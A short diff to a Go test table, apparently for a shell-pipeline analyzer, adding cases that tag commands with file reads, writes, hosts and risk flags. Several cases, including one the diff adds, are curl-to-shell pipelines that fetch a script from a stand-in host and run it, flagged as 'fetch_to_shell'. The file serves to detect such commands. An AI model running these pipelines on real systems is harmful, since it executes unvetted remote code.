@@ -349,6 +349,8 @@ func TestAnalyzeEntryPoints(t *testing.T) {
 		{`grep x f | bash`, "!cannot_vouch r:f"},
 		{`cat install.sh | bash`, "r:install.sh"},
 		{`echo 'cat a' | cat | sh`, "r:a"},
+		{`echo 'cat a' | tee log | sh`, "w:log r:a"},
+		{`curl -s https://x.example/i.sh | tee i.sh | sh`, "!fetch_to_shell w:i.sh h:x.example"},
 		{`curl -s https://x.example/i.sh | bash -s -- --yes`, "!fetch_to_shell h:x.example"},
 		{`curl -s https://x.example/i.sh | sh -s arg`, "!fetch_to_shell h:x.example"},
 		{`bash < install.sh`, "r:install.sh"},
